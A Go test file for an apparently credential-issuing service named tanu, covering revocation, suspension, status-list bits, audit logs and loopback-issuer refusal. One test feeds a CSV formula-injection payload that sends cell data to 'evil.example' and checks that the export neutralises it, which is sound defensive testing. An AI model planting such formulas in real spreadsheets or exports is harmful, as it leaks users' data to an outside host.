package app_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/tanu-edu/tanu/internal/app"
	"github.com/tanu-edu/tanu/internal/app/apptest"
	"github.com/tanu-edu/tanu/verifier"
)

// listBit decodes a published status list without tanu's statuslist
// package and returns bit i and the list's ETag.
func listBit(t *testing.T, h *apptest.Harness, listURL string, i int) (bool, string) {
	t.Helper()
	resp, err := h.Client.Get(listURL)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("ETag") == "" || !strings.Contains(resp.Header.Get("Cache-Control"), "max-age") {
		t.Fatalf("GET %s: %d %v", listURL, resp.StatusCode, resp.Header)
	}
	parts := strings.Split(string(body), ".")
	if len(parts) != 3 {
		t.Fatalf("status list is not a compact JWS: %.80s", body)
	}
	pl, _ := base64.RawURLEncoding.DecodeString(parts[1])
	var lc struct {
		Type    []string `json:"type"`
		Subject struct {
			Type, StatusPurpose, EncodedList string
		} `json:"credentialSubject"`
	}
	if err := json.Unmarshal(pl, &lc); err != nil {
		t.Fatal(err)
	}
	if lc.Subject.Type != "BitstringStatusList" || !strings.HasPrefix(lc.Subject.EncodedList, "u") {
		t.Fatalf("list %s", pl)
	}
	gz, err := base64.RawURLEncoding.DecodeString(lc.Subject.EncodedList[1:])
	if err != nil {
		t.Fatal(err)
	}
	zr, err := gzip.NewReader(bytes.NewReader(gz))
	if err != nil {
		t.Fatal(err)
	}
	bits, _ := io.ReadAll(zr)
	if len(bits) < 16384 {
		t.Fatalf("list has %d bytes, want at least 16384", len(bits))
	}
	return bits[i/8]&(0x80>>(i%8)) != 0, resp.Header.Get("ETag")
}

type statusEntry struct {
	StatusListIndex      string `json:"statusListIndex"`
	StatusListCredential string `json:"statusListCredential"`
}

func entryOf(t *testing.T, h *apptest.Harness, id string) (string, int) {
	t.Helper()
	_, js := h.Do(t, "", "GET", "/c/"+id+"/credential.json", "", nil)
	var c struct {
		CredentialStatus statusEntry `json:"credentialStatus"`
	}
	_ = json.Unmarshal(js, &c)
	i, err := strconv.Atoi(c.CredentialStatus.StatusListIndex)
	if err != nil {
		t.Fatalf("status entry %+v", c.CredentialStatus)
	}
	return c.CredentialStatus.StatusListCredential, i
}

func verdicts(t *testing.T, h *apptest.Harness, id string) (api, page, posted string, reason string) {
	t.Helper()
	_, b := h.Do(t, "", "GET", "/api/v1/verify/"+id, "", nil)
	r := decode[verifier.Result](t, b)
	req, _ := http.NewRequest("GET", h.URL+"/c/"+id, nil)
	req.Header.Set("Accept", "application/json")
	resp, err := h.Client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var pr verifier.Result
	_ = json.NewDecoder(resp.Body).Decode(&pr)
	resp.Body.Close()
	_, jws := h.Do(t, "", "GET", "/c/"+id+"/credential.jwt", "", nil)
	_, b = h.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
	post := decode[verifier.Result](t, b)
	if r.Verified != (r.Status == "valid") || pr.Verified != (pr.Status == "valid") || post.Verified != (post.Status == "valid") {
		t.Fatalf("verified flag disagrees with status")
	}
	return r.Status, pr.Status, post.Status, r.StatusReason
}

func TestRevocationAndSuspension(t *testing.T) {
	forEachEngine(t, func(t *testing.T, h *apptest.Harness) {
		regno := createProgram(t, h)
		a, b, c := issue(t, h, regno, "A1"), issue(t, h, regno, "B1"), issue(t, h, regno, "C1")
		listA, idxA := entryOf(t, h, a.ID)
		listB, idxB := entryOf(t, h, b.ID)
		_, idxC := entryOf(t, h, c.ID)
		if !strings.HasSuffix(listA, "/status/revocation-1") || listA != listB {
			t.Fatalf("status list URL %s", listA)
		}
		suspList := strings.Replace(listA, "revocation-", "suspension-", 1)
		for _, i := range []int{idxA, idxB, idxC} {
			if bit, _ := listBit(t, h, listA, i); bit {
				t.Fatalf("bit %d set before any revocation", i)
			}
		}
		// Missing reason, unknown credential, wrong role.
		resp, _ := h.Do(t, "registrar", "POST", "/api/v1/credentials/"+a.ID+"/revoke", "application/json", strings.NewReader(`{}`))
		if resp.StatusCode != 400 {
			t.Fatalf("revoke without reason: %d", resp.StatusCode)
		}
		resp, _ = h.Do(t, "viewer", "POST", "/api/v1/credentials/"+a.ID+"/revoke", "application/json", strings.NewReader(`{"reason":"x"}`))
		if resp.StatusCode != 403 {
			t.Fatalf("viewer revoke: %d", resp.StatusCode)
		}
		resp, _ = h.Do(t, "registrar", "POST", "/api/v1/credentials/8f14e45f-ceea-467f-a8f0-6c0b1d2f0000/revoke", "application/json", strings.NewReader(`{"reason":"x"}`))
		if resp.StatusCode != 404 {
			t.Fatalf("revoke unknown: %d", resp.StatusCode)
		}
		_, etag0 := listBit(t, h, listA, idxA)
		resp, body := h.Do(t, "registrar", "POST", "/api/v1/credentials/"+a.ID+"/revoke", "application/json", strings.NewReader(`{"reason":"Қате берілген / issued in error"}`))
		if resp.StatusCode != 200 || decode[map[string]any](t, body)["status"] != "revoked" {
			t.Fatalf("revoke: %d %s", resp.StatusCode, body)
		}
		resp, _ = h.Do(t, "registrar", "POST", "/api/v1/credentials/"+b.ID+"/suspend", "application/json", strings.NewReader(`{"reason":"under review"}`))
		if resp.StatusCode != 200 {
			t.Fatalf("suspend: %d", resp.StatusCode)
		}
		// Every view agrees.
		for id, want := range map[string]string{a.ID: "revoked", b.ID: "suspended", c.ID: "valid"} {
			api, page, posted, _ := verdicts(t, h, id)
			if api != want || page != want || posted != want {
				t.Errorf("%s: api %s page %s posted %s, want %s", id, api, page, posted, want)
			}
		}
		if _, _, _, reason := verdicts(t, h, a.ID); reason != "Қате берілген / issued in error" {
			t.Errorf("public reason %q", reason)
		}
		for lang, word := range map[string]string{"kk": "Кері қайтарылған", "ru": "Отозван", "en": "Revoked"} {
			_, html := h.Do(t, "", "GET", "/c/"+a.ID+"?lang="+lang, "", nil)
			if !bytes.Contains(html, []byte(word)) || !bytes.Contains(html, []byte("issued in error")) {
				t.Errorf("revoked page in %s lacks %q or the reason", lang, word)
			}
		}
		// The published lists, decoded independently.
		bitA, etag1 := listBit(t, h, listA, idxA)
		bitC, _ := listBit(t, h, listA, idxC)
		bitB, _ := listBit(t, h, suspList, idxB)
		if !bitA || bitC || !bitB || etag1 == etag0 {
			t.Fatalf("bits: revoked A %v, C %v, suspended B %v; etag %s→%s", bitA, bitC, bitB, etag0, etag1)
		}
		req, _ := http.NewRequest("GET", listA, nil)
		req.Header.Set("If-None-Match", etag1)
		if r, _ := h.Client.Do(req); r.StatusCode != http.StatusNotModified {
			t.Fatalf("conditional GET: %d", r.StatusCode)
		}
		// Lifting the suspension clears the bit; revocation is final.
		resp, _ = h.Do(t, "registrar", "POST", "/api/v1/credentials/"+b.ID+"/reinstate", "application/json", strings.NewReader(`{"reason":"review done"}`))
		if resp.StatusCode != 200 {
			t.Fatalf("reinstate: %d", resp.StatusCode)
		}
		if bit, _ := listBit(t, h, suspList, idxB); bit {
			t.Fatal("suspension bit still set after reinstatement")
		}
		if api, _, _, _ := verdicts(t, h, b.ID); api != "valid" {
			t.Fatalf("reinstated: %s", api)
		}
		resp, body = h.Do(t, "registrar", "POST", "/api/v1/credentials/"+a.ID+"/reinstate", "application/json", strings.NewReader(`{"reason":"oops"}`))
		if resp.StatusCode != 409 || decode[apiError](t, body).Error.Code != "conflict" {
			t.Fatalf("reinstate revoked: %d %s", resp.StatusCode, body)
		}
		// The audit trail has each action once; only admins read it.
		resp, _ = h.Do(t, "registrar", "GET", "/api/v1/audit", "", nil)
		if resp.StatusCode != 403 {
			t.Fatalf("registrar reads audit: %d", resp.StatusCode)
		}
		_, body = h.Do(t, "admin", "GET", "/api/v1/audit?object_id="+a.ID, "", nil)
		var log struct {
			Entries []struct{ Action, Actor, Reason string }
		}
		_ = json.Unmarshal(body, &log)
		if len(log.Entries) != 2 || log.Entries[0].Action != "credential.issued" || log.Entries[1].Action != "credential.revoked" ||
			log.Entries[1].Actor != "token:registrar" {
			t.Fatalf("audit for A: %s", body)
		}
		_, body = h.Do(t, "admin", "GET", "/api/v1/audit?format=csv&action=credential.suspended", "", nil)
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 2 || rows[1][3] != "credential.suspended" || rows[1][6] != "under review" {
			t.Fatalf("audit CSV: %v %q", err, body)
		}
		// A reason that a spreadsheet program would run as a formula is
		// written with a leading quote in audit.csv (issue 10, item 9).
		formula := `=HYPERLINK("https://evil.example/?d="&A1,"details")`
		reason, _ := json.Marshal(map[string]string{"reason": formula})
		if resp, body := h.Do(t, "registrar", "POST", "/api/v1/credentials/"+c.ID+"/suspend", "application/json", bytes.NewReader(reason)); resp.StatusCode != 200 {
			t.Fatalf("suspend C: %d %s", resp.StatusCode, body)
		}
		_, body = h.Do(t, "admin", "GET", "/api/v1/audit?format=csv&action=credential.suspended&object_id="+c.ID, "", nil)
		rows, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 2 || rows[1][6] != "'"+formula {
			t.Fatalf("audit CSV with a formula: %v %q", err, body)
		}
	})
}

// TestOtherIssuerStatus verifies instance A's credentials at instance B:
// B reads A's keys and status list over HTTP, and says "unknown", never
// "valid", once A's list cannot be fetched.
func TestOtherIssuerStatus(t *testing.T) {
	insecure := apptest.Options{Configure: func(c *app.Config) { c.InsecureLoopback = true }}
	a := apptest.Start(t, "sqlite", insecure)
	b := apptest.Start(t, "sqlite", insecure)
	regno := createProgram(t, a)
	good, gone := issue(t, a, regno, "G1"), issue(t, a, regno, "R1")
	if resp, _ := a.Do(t, "registrar", "POST", "/api/v1/credentials/"+gone.ID+"/revoke", "application/json", strings.NewReader(`{"reason":"withdrawn"}`)); resp.StatusCode != 200 {
		t.Fatal("revoke failed")
	}
	post := func(id string) verifier.Result {
		_, jws := a.Do(t, "", "GET", "/c/"+id+"/credential.jwt", "", nil)
		_, body := b.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
		return decode[verifier.Result](t, body)
	}
	if r := post(good.ID); r.Status != "valid" || !r.Verified {
		t.Fatalf("A's valid credential at B: %s %+v", r.Status, r.Checks)
	}
	if r := post(gone.ID); r.Status != "revoked" || r.Verified {
		t.Fatalf("A's revoked credential at B: %s", r.Status)
	}
	_, jws := a.Do(t, "", "GET", "/c/"+good.ID+"/credential.jwt", "", nil)
	c := apptest.Start(t, "sqlite", insecure)
	a.Stop()
	// B answers from the copies it keeps for their lifetime (the list's
	// ttl); an instance without them cannot reach A and says so.
	_, body := b.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
	if r := decode[verifier.Result](t, body); r.Status != "valid" {
		t.Fatalf("with A down, B (cached) said %s", r.Status)
	}
	_, body = c.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
	r := decode[verifier.Result](t, body)
	if r.Verified || r.Status == "valid" {
		t.Fatalf("with A down, C said %s", r.Status)
	}
	if !bytes.Contains(body, []byte("could not reach the issuer")) || !bytes.Contains(body, []byte(verifier.CodeIssuerUnreachable)) ||
		bytes.Contains(body, []byte("refused")) || bytes.Contains(body, []byte("dial")) {
		t.Fatalf("C's answer: %s", body)
	}
}

// TestLoopbackIssuerRefused: a credential whose issuer lives on a loopback
// address (here a real tanu instance on 127.0.0.1) is not verified by an
// instance without the test hook, and the issuer never sees a request.
func TestLoopbackIssuerRefused(t *testing.T) {
	a := apptest.Start(t, "sqlite")
	b := apptest.Start(t, "sqlite")
	regno := createProgram(t, a)
	cred := issue(t, a, regno, "L1")
	_, jws := a.Do(t, "", "GET", "/c/"+cred.ID+"/credential.jwt", "", nil)
	before := routeHits(t, a, "/.well-known/jwks.json") + routeHits(t, a, "/issuer/keys/:kid") + routeHits(t, a, "/status/:list")
	resp, body := b.Do(t, "", "POST", "/api/v1/verify", "text/plain", bytes.NewReader(jws))
	r := decode[verifier.Result](t, body)
	if (resp.StatusCode != 200 && resp.StatusCode != 400) || r.Verified || r.Status != "invalid" {
		t.Fatalf("loopback issuer at B: %d %s", resp.StatusCode, body)
	}
	if !bytes.Contains(body, []byte("could not reach the issuer")) || bytes.Contains(body, []byte("refused")) || bytes.Contains(body, []byte("dial")) {
		t.Fatalf("B's answer leaks or misleads: %s", body)
	}
	after := routeHits(t, a, "/.well-known/jwks.json") + routeHits(t, a, "/issuer/keys/:kid") + routeHits(t, a, "/status/:list")
	if after != before {
		t.Fatalf("A received %v fetches from B", after-before)
	}
	// The page says it in the page's language.
	for lang, want := range map[string]string{"kk": "Шығарушыға қосылу мүмкін болмады", "ru": "Не удалось связаться с издателем", "en": "Could not reach the issuer"} {
		req, _ := http.NewRequest("POST", b.URL+"/api/v1/verify?lang="+lang, bytes.NewReader(jws))
		req.Header.Set("Accept", "text/html")
		req.Header.Set("Content-Type", "text/plain")
		resp, err := b.Client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		page, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if !bytes.Contains(page, []byte(want)) {
			t.Errorf("%s page lacks %q", lang, want)
		}
	}
}

// routeHits reads the request counter of route from the instance's metrics.
func routeHits(t *testing.T, h *apptest.Harness, route string) float64 {
	t.Helper()
	resp, body := h.Do(t, "admin", "GET", "/metrics", "", nil)
	if resp.StatusCode != 200 {
		t.Fatalf("metrics: %d", resp.StatusCode)
	}
	var total float64
	for _, line := range strings.Split(string(body), "\n") {
		if strings.HasPrefix(line, "tanu_http_requests_total{") && strings.Contains(line, `route="`+route+`"`) {
			n, _ := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
			total += n
		}
	}
	return total
}
